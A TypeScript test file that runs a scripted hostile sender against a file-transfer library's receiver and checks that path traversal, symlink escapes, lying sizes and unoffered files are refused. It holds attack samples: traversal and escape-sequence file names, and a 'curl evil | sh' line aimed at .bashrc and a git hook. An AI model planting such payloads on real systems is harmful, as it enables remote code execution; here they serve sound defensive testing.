/**
 * A hostile sender, built on the library's lower layers, against the real recipient (receive())
 * through a real relay on loopback: every trick is refused with a clear error, and nothing is
 * written outside the output folder or under a final name.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, rm, stat, statfs, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { generateSecret, formatCode } from '../src/core/code-phrase.js';
import { TscCrocError } from '../src/core/errors.js';
import { MAX_OFFER_DIRS, MAX_OFFER_FILES, PROTOCOL_VERSION, type SenderMessage } from '../src/core/messages.js';
import { RecordType } from '../src/core/record.js';
import type { RunningRelay } from '../src/relay/index.js';
import { receive, type ReceiveOptions } from '../src/transfer/receive.js';
import type { DEFAULT_TIMEOUTS, TransferEvent } from '../src/transfer/events.js';
import { senderPake } from '../src/transfer/pake.js';
import { RelayClient } from '../src/transfer/relay-client.js';
import { SecureChannel } from '../src/transfer/secure-channel.js';
import { connectStapled } from '../src/transfer/tcp.js';
import { startPeerRelay } from './helpers/relay.js';
import { withTmpfs } from './helpers/tmpfs.js';

let relay: RunningRelay;
let root: string;
/** No reconnection: a hostile sender that hangs up is not waited for (reconnection has its own tests). */
const timeouts = { waitForPeerMs: 10_000, stepMs: 10_000, stapleMs: 10_000, reconnectMs: 0 };

before(async () => {
  relay = await startPeerRelay();
  root = await mkdtemp(join(tmpdir(), 'tsc-croc-hostile-'));
});
after(async () => {
  await relay.close();
  await rm(root, { recursive: true, force: true });
});

/** `until`: wait for the recipient's first event that matches (or for its end) before the next step. */
type Step = { msg: SenderMessage } | { data: Buffer } | { end: true } | { cut: true } | { until: (e: TransferEvent) => boolean };

/** Run a scripted sender against receive(); returns receive()'s outcome. */
async function hostile(script: Step[], outDir: string, overwrite: ReceiveOptions['overwrite'] = false, more: Partial<typeof DEFAULT_TIMEOUTS> = {}): Promise<unknown> {
  const client = new RelayClient(relay.httpUrl);
  const join = await client.join({ role: 'sender' });
  const secret = generateSecret();
  const code = formatCode({ channel: join.channel, secret });
  const waiting = new Set<{ match: (e: TransferEvent) => boolean; resolve: () => void }>();
  const onEvent = (e: TransferEvent) => {
    for (const w of waiting) if (w.match(e)) (waiting.delete(w), w.resolve());
  };
  const receiving = receive({ relay: relay.httpUrl, lan: 'off', code, outDir, overwrite, accept: () => true, onEvent, timeouts: { ...timeouts, ...more } }).then(
    () => null,
    (e: unknown) => e,
  );
  const until = (match: (e: TransferEvent) => boolean) => Promise.race([new Promise<void>((resolve) => waiting.add({ match, resolve })), receiving.then(() => undefined)]);
  const { keys } = await senderPake([{ client, join, via: 'relay' }], secret, timeouts, () => {});
  const s = await connectStapled({ host: client.host, port: join.tcpPort, channel: join.channel, uuid: join.uuid, timeoutMs: 10_000 });
  const ch = new SecureChannel(s.socket, s.leftover, keys.senderToRecipient, keys.recipientToSender, undefined, s.tap);
  s.socket.resume(); // read and drop what the recipient says, like any TCP peer (so its FIN closes us)
  const sending = (async () => {
    for (const step of script) {
      if ('msg' in step) await ch.sendMessage(step.msg);
      else if ('data' in step) await ch.send(RecordType.DATA, step.data);
      else if ('cut' in step) await ch.close(1000); // hang up without END
      else if ('until' in step) await until(step.until);
      else await ch.end();
    }
  })().catch(() => undefined); // the recipient may hang up on us mid-script
  const outcome = await receiving;
  await sending;
  ch.destroy();
  return outcome;
}

const offer = (names: string[], totalBytes: number): Step => ({
  msg: { type: 'offer', v: PROTOCOL_VERSION, kind: 'files', totalFiles: names.length, totalDirs: 0, totalBytes, names },
});
const file = (path: string, size: number): Step => ({ msg: { type: 'file', path, size, offset: 0, mode: 0o644, mtime: Date.now() } });
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

async function fresh(name: string) {
  const d = join(root, name);
  await mkdir(join(d, 'out'), { recursive: true });
  await mkdir(join(d, 'elsewhere'));
  return { out: join(d, 'out'), elsewhere: join(d, 'elsewhere') };
}

function assertCode(e: unknown, code: string) {
  assert.ok(e instanceof TscCrocError, `expected a TscCrocError, got ${String(e)}`);
  assert.equal(e.code, code, e.message);
  assert.doesNotMatch(e.message, /[\u0000-\u001f\u007f-\u009f]/, 'no raw control characters in the message');
}

const unsafeNames = ['../x', '/tmp/x', 'a/../../x', '\u001b[2J\u001b]0;pwned\u0007.txt', 'C:\\windows\\x', 'nul\u0000.txt', 'rtl\u202etxt.exe'];
for (const name of unsafeNames) {
  test(`refuses the file name ${JSON.stringify(name)}`, async () => {
    const { out, elsewhere } = await fresh(`name-${randomBytes(4).toString('hex')}`);
    const data = Buffer.from('payload');
    const e = await hostile([offer([name], data.length), file(name, data.length), { data }, { msg: { type: 'file-end' } }, { msg: { type: 'done' } }, { end: true }], out);
    assertCode(e, 'ERR_UNSAFE_PATH');
    assert.deepEqual(await readdir(out), []);
    assert.deepEqual(await readdir(elsewhere), []);
  });
}

test('refuses a path into a symlink planted in the output folder (at the offer, and even with --overwrite)', async () => {
  const { out, elsewhere } = await fresh('symlink');
  await symlink(elsewhere, join(out, 'link'));
  const data = Buffer.from('payload');
  const script: Step[] = [
    { msg: { type: 'offer', v: PROTOCOL_VERSION, kind: 'files', totalFiles: 1, totalDirs: 1, totalBytes: data.length, names: ['link'] } },
    { msg: { type: 'dir', path: 'link', mode: 0o755, mtime: Date.now() } },
    file('link/x', data.length),
    { data },
    { msg: { type: 'file-end' } },
    { msg: { type: 'done' } },
    { end: true },
  ];
  assertCode(await hostile(script, out), 'ERR_FILE_EXISTS');
  assertCode(await hostile(script, out, true), 'ERR_UNSAFE_PATH');
  assert.deepEqual(await readdir(elsewhere), []);
});

test('a size that lies (more data than announced) is refused before it is written', async () => {
  const { out } = await fresh('size-more');
  const e = await hostile([offer(['a.txt'], 4), file('a.txt', 4), { data: Buffer.from('12345678') }], out);
  assertCode(e, 'ERR_PROTOCOL');
  assert.deepEqual(await readdir(out), [], 'no partial file is kept after hostile input');
});

test('a size that lies (less data than announced) is refused at the file end', async () => {
  const { out } = await fresh('size-less');
  const data = Buffer.from('12');
  const e = await hostile([offer(['a.txt'], 4), file('a.txt', 4), { data }, { msg: { type: 'file-end' } }], out);
  assertCode(e, 'ERR_PROTOCOL');
  assert.ok(!(await readdir(out)).includes('a.txt'));
});

test('more files or bytes than offered are refused', async () => {
  const { out } = await fresh('counts');
  const d = Buffer.from('ab');
  const e1 = await hostile([offer(['a'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end' } }, file('b', 2)], out);
  assertCode(e1, 'ERR_PROTOCOL');
  const { out: out2 } = await fresh('bytes');
  const e2 = await hostile([offer(['a', 'b'], 3), file('a', 4)], out2);
  assertCode(e2, 'ERR_PROTOCOL');
  const { out: out3 } = await fresh('fewer');
  const e3 = await hostile([offer(['a', 'b'], 2), file('a', 2), { data: d }, { msg: { type: 'file-end' } }, { msg: { type: 'done' } }], out3);
  assertCode(e3, 'ERR_PROTOCOL');
});

test('a file-end of protocol v1 (with a digest) is refused, and leaves nothing under the final name', async () => {
  const { out } = await fresh('checksum');
  const data = Buffer.from('real data');
  const v1End = { type: 'file-end', digest: 'a'.repeat(64) } as unknown as SenderMessage;
  const e = await hostile([offer(['a.txt'], data.length), file('a.txt', data.length), { data }, { msg: v1End }], out);
  assertCode(e, 'ERR_PROTOCOL');
  assert.deepEqual(await readdir(out), []);
});

test('the same name twice is refused', async () => {
  const { out } = await fresh('dupe');
  const d = Buffer.from('ab');
  const e = await hostile([offer(['a', 'b'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end' } }, file('a', 2)], out);
  assertCode(e, 'ERR_PROTOCOL');
});

test('a sender that stops mid-file: connection lost, partial data only under a temporary name', async () => {
  const { out } = await fresh('cut');
  const e = await hostile([offer(['a.txt'], 100), file('a.txt', 100), { data: Buffer.alloc(50, 1) }, { cut: true }], out);
  assert.ok(e instanceof TscCrocError);
  assert.equal(e.code, 'ERR_CONNECTION_LOST', e.message);
  const names = await readdir(out);
  assert.ok(!names.includes('a.txt'));
  assert.ok(names.every((n) => n.endsWith('.partial')));
});

test('regression: a file that was not offered is refused (an offer of "photo.jpg" cannot write .bashrc)', async () => {
  const { out } = await fresh('not-offered');
  const evil = Buffer.from('curl evil | sh');
  const e = await hostile([offer(['photo.jpg'], evil.length), file('.bashrc', evil.length), { data: evil }, { msg: { type: 'file-end' } }], out);
  assertCode(e, 'ERR_PROTOCOL');
  assert.deepEqual(await readdir(out), []);
});

test('an offer must list its top-level names, once each, as plain names', async () => {
  const { out } = await fresh('offer-shape');
  assertCode(await hostile([{ msg: { type: 'offer', v: PROTOCOL_VERSION, kind: 'files', totalFiles: 1, totalDirs: 0, totalBytes: 2, names: [] } }], out), 'ERR_PROTOCOL');
  assertCode(await hostile([offer(['a', 'a'], 2)], out), 'ERR_PROTOCOL');
  assertCode(await hostile([offer(['dir/a'], 2)], out), 'ERR_UNSAFE_PATH');
});

const folderOffer = (names: string[], totalFiles: number, totalDirs: number, totalBytes: number): Step => ({
  msg: { type: 'offer', v: PROTOCOL_VERSION, kind: 'files', totalFiles, totalDirs, totalBytes, names },
});
const dir = (path: string): Step => ({ msg: { type: 'dir', path, mode: 0o755, mtime: Date.now() } });

test('an existing top-level folder is not written into without --overwrite, even without its "dir" message', async () => {
  const { out } = await fresh('existing-root');
  await mkdir(join(out, 'repo', '.git'), { recursive: true });
  const hook = Buffer.from('#!/bin/sh\ncurl evil | sh');
  const viaDir = await hostile([folderOffer(['repo'], 1, 1, hook.length), dir('repo'), file('repo/.git/post-checkout', hook.length), { data: hook }], out);
  assertCode(viaDir, 'ERR_FILE_EXISTS');
  // a path whose folders were never announced is refused before the disk is touched
  const direct = await hostile([folderOffer(['repo'], 1, 0, hook.length), file('repo/.git/post-checkout', hook.length), { data: hook }], out, true);
  assertCode(direct, 'ERR_PROTOCOL');
  assert.deepEqual(await readdir(join(out, 'repo', '.git')), []);
});

test('a deep path must announce each folder: depth costs only what the user was offered', async () => {
  const { out } = await fresh('deep');
  const deep = Array.from({ length: 1500 }, () => 'x').join('/');
  assertCode(await hostile([folderOffer(['a'], 1, 1, 1), dir('a'), file(`a/${deep}/f`, 1)], out), 'ERR_PROTOCOL');
  assert.deepEqual(await readdir(out), [], 'the folder it created, left empty, is removed (with its journal)');
});

test('more folders than offered, or a folder outside the offered names, is refused', async () => {
  const { out } = await fresh('dirs');
  assertCode(await hostile([folderOffer(['a'], 0, 1, 0), dir('a'), dir('a/b')], out), 'ERR_PROTOCOL');
  const { out: out2 } = await fresh('dirs2');
  assertCode(await hostile([folderOffer(['a'], 0, 1, 0), dir('b')], out2), 'ERR_PROTOCOL');
  assert.deepEqual(await readdir(out2), []);
});

const streamOffer = (kind: 'text' | 'stream', totalBytes: number): Step => ({
  msg: { type: 'offer', v: PROTOCOL_VERSION, kind, totalFiles: 0, totalDirs: 0, totalBytes, names: [] },
});

test('text and stream offers: lies about sizes and files inside them are refused', async () => {
  const { out } = await fresh('streams');
  const d = Buffer.from('hello');
  // a text longer than announced
  assertCode(await hostile([streamOffer('text', 3), { data: d }], out), 'ERR_PROTOCOL');
  // a stream-end that disagrees with what came
  assertCode(await hostile([streamOffer('text', 5), { data: d }, { msg: { type: 'stream-end', size: 4, sha256: sha(d) } }], out), 'ERR_PROTOCOL');
  // a wrong checksum
  assertCode(await hostile([streamOffer('text', 5), { data: d }, { msg: { type: 'stream-end', size: 5, sha256: sha(Buffer.from('other')) } }], out), 'ERR_INTEGRITY');
  // a file smuggled into a text transfer
  assertCode(await hostile([streamOffer('text', 5), { data: d }, { msg: { type: 'stream-end', size: 5, sha256: sha(d) } }, file('x', 1)], out), 'ERR_PROTOCOL');
  // a text offer that claims files
  assertCode(await hostile([{ msg: { type: 'offer', v: PROTOCOL_VERSION, kind: 'text', totalFiles: 1, totalDirs: 0, totalBytes: 5, names: ['x'] } }], out), 'ERR_PROTOCOL');
  assert.deepEqual(await readdir(out), []);
});

test('a sender that goes silent mid-file (no data, no keepalives): the recipient calls it stalled, partial kept', async () => {
  const { out } = await fresh('stall');
  const size = 3 * 1024 * 1024;
  // (at most one record's 1 MiB: a larger one is never sent, and a partial with no byte in it is not kept)
  const data = randomBytes(1024 * 1024 - 10);
  const e = await hostile([offer(['s.bin'], size), file('s.bin', size), { data }], out, false, { stallMs: 400, keepaliveMs: 100 });
  assert.ok(e instanceof TscCrocError);
  assert.equal(e.code, 'ERR_STALLED', e.message);
  assert.match(e.message, /stalled/);
  const names = await readdir(out);
  assert.ok(names.some((n) => n.endsWith('.partial')), 'what arrived is kept');
  assert.ok(!names.includes('s.bin'));
});

test('a file may start past 0 only where the recipient said it holds it', async () => {
  const { out } = await fresh('offset');
  const e = await hostile([offer(['o.bin'], 10), { msg: { type: 'file', path: 'o.bin', size: 10, offset: 4, mode: 0o644, mtime: 0 } }, { data: Buffer.alloc(6) }], out);
  assert.ok(e instanceof TscCrocError);
  assert.equal(e.code, 'ERR_PROTOCOL');
  assert.match(e.message, /did not offer to resume/);
  assert.deepEqual(await readdir(out), []);
});

for (const name of ['.tsc-croc-0123456789abcdef.journal', '.TSC-CROC-0123456789ABCDEF.journal', '.T\u017fc-Croc-x.partial'])
test(`names reserved for partial transfers are refused, in any case: ${JSON.stringify(name)}`, async () => {
  const { out } = await fresh(`reserved-${Buffer.from(name).toString('hex').slice(0, 20)}`);
  const d = Buffer.from('{"done":"x"}');
  const e = await hostile([offer([name], d.length), file(name, d.length), { data: d }, { msg: { type: 'file-end' } }, { msg: { type: 'done' } }, { end: true }], out);
  assert.ok(e instanceof TscCrocError);
  assert.equal(e.code, 'ERR_UNSAFE_PATH');
  assert.deepEqual(await readdir(out), []);
});

/** An honest transfer of one small file into `out`: the recipient still works after each attack. */
async function honest(out: string, name: string): Promise<void> {
  const data = randomBytes(5000);
  const e = await hostile([offer([name], data.length), file(name, data.length), { data }, { msg: { type: 'file-end' } }, { msg: { type: 'done' } }, { end: true }], out);
  assert.equal(e, null, String(e));
  assert.ok((await readFile(join(out, name))).equals(data));
}

test('an offer beyond the sanity limits (10^7 folders, 10^7 files) is refused at the offer: nothing is created', async () => {
  const { out } = await fresh('limits');
  const folders = [folderOffer(['a'], 1, 10_000_000, 1), dir('a'), ...Array.from({ length: 50 }, (_, i) => dir(`a/d${i}`))];
  const e = await hostile(folders, out);
  assertCode(e, 'ERR_PROTOCOL');
  assert.match((e as Error).message, new RegExp(`10000000 folders, more than the ${MAX_OFFER_DIRS}`));
  assertCode(await hostile([folderOffer(['a'], 10_000_000, 1, 1), dir('a')], out), 'ERR_PROTOCOL');
  assert.ok(MAX_OFFER_FILES < 10_000_000);
  assert.deepEqual(await readdir(out), [], 'nothing left behind');
  await honest(out, 'after-limits.bin');
});

test('a failed transfer removes the empty folders it created (2,000 of them), and only those', async () => {
  const { out } = await fresh('cleanup');
  // a folder that was there before, empty: with --overwrite the transfer may write into it, never remove it
  await mkdir(join(out, 'pre', 'old-empty'), { recursive: true });
  const n = 2_000;
  const data = Buffer.from('kept: a finished file stays, and so do its folders');
  const script: Step[] = [
    folderOffer(['a', 'pre'], 2, n + 5, 2 * data.length),
    dir('a'),
    ...Array.from({ length: n }, (_, i) => dir(`a/d${i}`)),
    dir('a/keep'),
    dir('a/keep/deep'),
    file('a/keep/deep/done.txt', data.length),
    { data },
    { msg: { type: 'file-end' } },
    dir('pre'),
    dir('pre/new'),
    // the recipient has written the finished file (a sender that did not wait could be gone
    // before the recipient's accept reached it, and nothing would be written at all)
    { until: (e) => e.type === 'file-done' && e.path.endsWith('a/keep/deep/done.txt') },
    { cut: true },
  ];
  const e = await hostile(script, out, true);
  assertCode(e, 'ERR_CONNECTION_LOST');
  assert.deepEqual((await readdir(join(out, 'a'))).sort(), ['keep'], 'the empty folders went; the finished file and its folders stayed');
  assert.deepEqual(await readdir(join(out, 'a', 'keep', 'deep')), ['done.txt']);
  assert.deepEqual(await readdir(join(out, 'pre')), ['old-empty'], 'a folder that existed before stays, and what was in it; the new empty one went');
  await honest(out, 'after-cleanup.bin');
});

test('an offer larger than the free space is refused before anything is written (ERR_DISK_FULL: needed and free)', async (t) => {
  const { out: base } = await fresh('space');
  const check = async (out: string, claim: number) => {
    const e = await hostile([offer(['huge.bin'], claim), file('huge.bin', claim), { data: randomBytes(1024) }], out);
    assertCode(e, 'ERR_DISK_FULL');
    assert.match((e as Error).message, /needs \d+(\.\d)? [GM]iB.*, \d+(\.\d)? ([GM]iB|bytes) is free; nothing was written/);
    assert.deepEqual(await readdir(out), [], 'nothing written, not even a journal');
    await honest(out, 'fits.bin');
  };
  if (process.getuid?.() === 0) {
    // a 4 MiB file system of our own: an offer of 8 MiB cannot fit, one of 5000 bytes can
    await withTmpfs(t, join(base, 'small'), 'size=4m', () => check(join(base, 'small'), 8 * 1024 * 1024));
  } else {
    const st = await statfs(base);
    t.diagnostic('not root: no tmpfs of our own; the offer claims 1 GiB more than the free space of the temporary folder');
    await check(base, st.bavail * st.bsize + 1024 ** 3);
  }
});

test('after the recipient keeps a name (skip), a sender that sends under it, gives no plan, or plans more than it offered is refused; the kept name is untouched', async () => {
  const { out } = await fresh('skip');
  await writeFile(join(out, 'mine.txt'), 'my own\n');
  const data = Buffer.from('new bytes');
  const keepMine = () => ({ replace: [], skip: ['mine.txt'] });
  const offered = offer(['mine.txt', 'new.txt'], 2 * data.length);
  const plan = (totalFiles: number, totalBytes: number): Step => ({ msg: { type: 'plan', totalFiles, totalDirs: 0, totalBytes } });
  const send = (path: string): Step[] => [file(path, data.length), { data }, { msg: { type: 'file-end' } }];
  const cases: [Step[], RegExp][] = [
    [[offered, plan(1, data.length), ...send('mine.txt'), { msg: { type: 'done' } }, { end: true }], /"mine\.txt" is under a name we skipped/],
    [[offered, ...send('new.txt'), { msg: { type: 'done' } }, { end: true }], /expected "plan" after our "skip"/],
    [[offered, plan(3, data.length), ...send('new.txt'), { msg: { type: 'done' } }, { end: true }], /planned 3 files, 0 folders and 9 bytes, more than the 2, 0 and 18 offered/],
    [[offered, plan(1, data.length), { msg: { type: 'done' } }, { end: true }], /but planned 1, 0 and 9/],
  ];
  for (const [script, re] of cases) {
    const e = await hostile(script, out, keepMine);
    assertCode(e, 'ERR_PROTOCOL');
    assert.match((e as Error).message, re);
    assert.equal(await readFile(join(out, 'mine.txt'), 'utf8'), 'my own\n');
  }
  // and the honest one: the plan, then only the rest
  assert.equal(await hostile([offered, plan(1, data.length), ...send('new.txt'), { msg: { type: 'done' } }, { end: true }], out, keepMine), null);
  assert.equal(await readFile(join(out, 'mine.txt'), 'utf8'), 'my own\n');
  assert.deepEqual(await readFile(join(out, 'new.txt')), data);
  // an overwrite callback that leaves a name undecided, or names one that is not there, refuses the transfer
  await writeFile(join(out, 'other.txt'), 'x');
  const two = offer(['mine.txt', 'other.txt'], 2);
  assertCode(await hostile([two], out, () => ({ replace: ['mine.txt'], skip: [] })), 'ERR_INVALID_ARGUMENT');
  assertCode(await hostile([two], out, () => ({ replace: ['mine.txt', 'zzz'], skip: ['other.txt'] })), 'ERR_INVALID_ARGUMENT');
});

/** A `batch` message (protocol v3) of these files, each announced at its `size` (default: its data's length). */
const batchOf = (files: { path: string; data: Buffer; size?: number }[]): Step => ({
  msg: { type: 'batch', files: files.map((f) => ({ path: f.path, size: f.size ?? f.data.length, mode: 0o640, mtime: 1_700_000_000_123 })) },
});
const batchData = (files: { data: Buffer }[]): Step => ({ data: Buffer.concat(files.map((f) => f.data)) });

test('batch (v3): an honest one arrives whole; lies about its bytes, counts and paths are refused before a byte is written', async () => {
  const a = { path: 'p/a', data: randomBytes(4096) };
  const b = { path: 'p/b', data: randomBytes(100) };
  const z = { path: 'p/z', data: Buffer.alloc(0) };
  const offered = folderOffer(['p'], 3, 1, 4196);
  // honest: a folder, then its three files in one batch and one DATA record
  const { out } = await fresh('batch-ok');
  assert.equal(await hostile([offered, dir('p'), batchOf([a, b, z]), batchData([a, b, z]), { msg: { type: 'done' } }, { end: true }], out), null);
  for (const f of [a, b, z]) assert.deepEqual(await readFile(join(out, f.path)), f.data);
  assert.deepEqual((await readdir(join(out, 'p'))).sort(), ['a', 'b', 'z'], 'no temporary file is left');
  const st = await stat(join(out, 'p/a'));
  assert.equal(Math.floor(st.mtimeMs), 1_700_000_000_123, 'the mtime to the millisecond');
  assert.equal(st.mode & 0o777, 0o640 & ~process.umask());

  const cases: [string, Step[], string, RegExp][] = [
    // a batch that claims more bytes than its record carries, or fewer
    ['short', [offered, dir('p'), batchOf([a, b, z]), { data: Buffer.concat([a.data, b.data]).subarray(0, 4195) }], 'ERR_PROTOCOL', /a batch of 4196 bytes carried 4195/],
    ['long', [offered, dir('p'), batchOf([a, b, z]), { data: Buffer.concat([a.data, b.data, Buffer.from('x')]) }], 'ERR_PROTOCOL', /a batch of 4196 bytes carried 4197/],
    // sizes that add up to more than the offer, even if the record would carry them
    ['sizes', [offered, dir('p'), batchOf([{ ...a, size: 4097 }, b, z])], 'ERR_PROTOCOL', /more bytes than offered/],
    // more files than the offer
    ['count', [offered, dir('p'), batchOf([a, b, z, { path: 'p/y', data: Buffer.alloc(0) }])], 'ERR_PROTOCOL', /more files than offered/],
    // the same path twice in one batch, or again after a batch
    ['dupe', [offered, dir('p'), batchOf([a, { ...b, path: 'p/a' }, z])], 'ERR_PROTOCOL', /"p\/a" sent twice/],
    ['again', [offered, dir('p'), batchOf([a]), batchData([a]), batchOf([{ ...a, data: Buffer.alloc(0), size: 0 }])], 'ERR_PROTOCOL', /"p\/a" sent twice/],
    // a path outside the target, or not under an offered name, or before its folder
    ['escape', [offered, dir('p'), batchOf([a, { ...b, path: 'p/../../b' }])], 'ERR_UNSAFE_PATH', /refused a/],
    ['absolute', [offered, dir('p'), batchOf([{ ...a, path: '/tmp/a' }])], 'ERR_UNSAFE_PATH', /refused a/],
    ['other', [offered, dir('p'), batchOf([{ ...a, path: 'q' }])], 'ERR_PROTOCOL', /not under an offered name/],
    ['folder', [offered, batchOf([a])], 'ERR_PROTOCOL', /comes before its folder/],
    // no data record, or a message in its place
    ['no-data', [offered, dir('p'), batchOf([a, b, z]), { msg: { type: 'done' } }], 'ERR_PROTOCOL', /a batch without its data/],
    ['cut', [offered, dir('p'), batchOf([a, b, z]), { end: true }], 'ERR_PROTOCOL', /a batch without its data/],
  ];
  for (const [name, script, code, re] of cases) {
    const { out: o, elsewhere } = await fresh(`batch-${name}`);
    const e = await hostile(script, o);
    assertCode(e, code);
    assert.match((e as Error).message, re, name);
    // nothing under a final name, no temporary file, nothing outside
    const left = await readdir(join(o, 'p')).catch((): string[] => []);
    assert.ok(!left.includes('b') && !left.includes('z') && !left.some((n) => n.endsWith('.partial')), `${name}: ${left.join(', ')}`);
    if (name !== 'again') assert.ok(!left.includes('a'), name);
    assert.deepEqual(await readdir(elsewhere), []);
  }
  // 'again': the first batch was whole and stays published; the second is refused
  assert.deepEqual(await readFile(join(root, 'batch-again', 'out', 'p/a')), a.data);
});

test('batch (v3): a file that exists is not replaced by a batch without --overwrite; with it, it is', async () => {
  const { out } = await fresh('batch-exists');
  await writeFile(join(out, 'a.txt'), 'mine\n');
  const data = Buffer.from('theirs\n');
  const f = { path: 'a.txt', data };
  const script: Step[] = [offer(['a.txt'], data.length), batchOf([f]), batchData([f]), { msg: { type: 'done' } }, { end: true }];
  // (the offer itself asks: refused before anything is written)
  assertCode(await hostile(script, out), 'ERR_FILE_EXISTS');
  assert.equal(await readFile(join(out, 'a.txt'), 'utf8'), 'mine\n');
  assert.equal(await hostile(script, out, true), null);
  assert.deepEqual(await readFile(join(out, 'a.txt')), data);
  assert.deepEqual(await readdir(out), ['a.txt']);
});
